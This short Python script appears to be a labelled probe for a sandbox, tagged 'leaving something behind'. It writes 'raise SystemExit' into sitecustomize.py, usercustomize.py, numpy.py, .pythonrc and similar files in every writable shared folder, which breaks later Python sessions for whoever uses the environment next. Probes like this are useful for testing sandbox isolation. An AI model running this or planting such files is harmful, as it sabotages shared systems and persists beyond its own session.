"""tries: leave files for the next student in every folder that can be written
class: leaving something behind
"""
# %% added
import os, pathlib
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), "/tmp/matplotlib", ".", "/dev/mqueue"):
    for name in ("left", "sitecustomize.py", "usercustomize.py", "numpy.py", "deepcalc.py", ".pythonrc"):
        try:
            os.makedirs(folder, exist_ok=True)
            pathlib.Path(folder, name).write_text("raise SystemExit")
        except OSError:
            pass
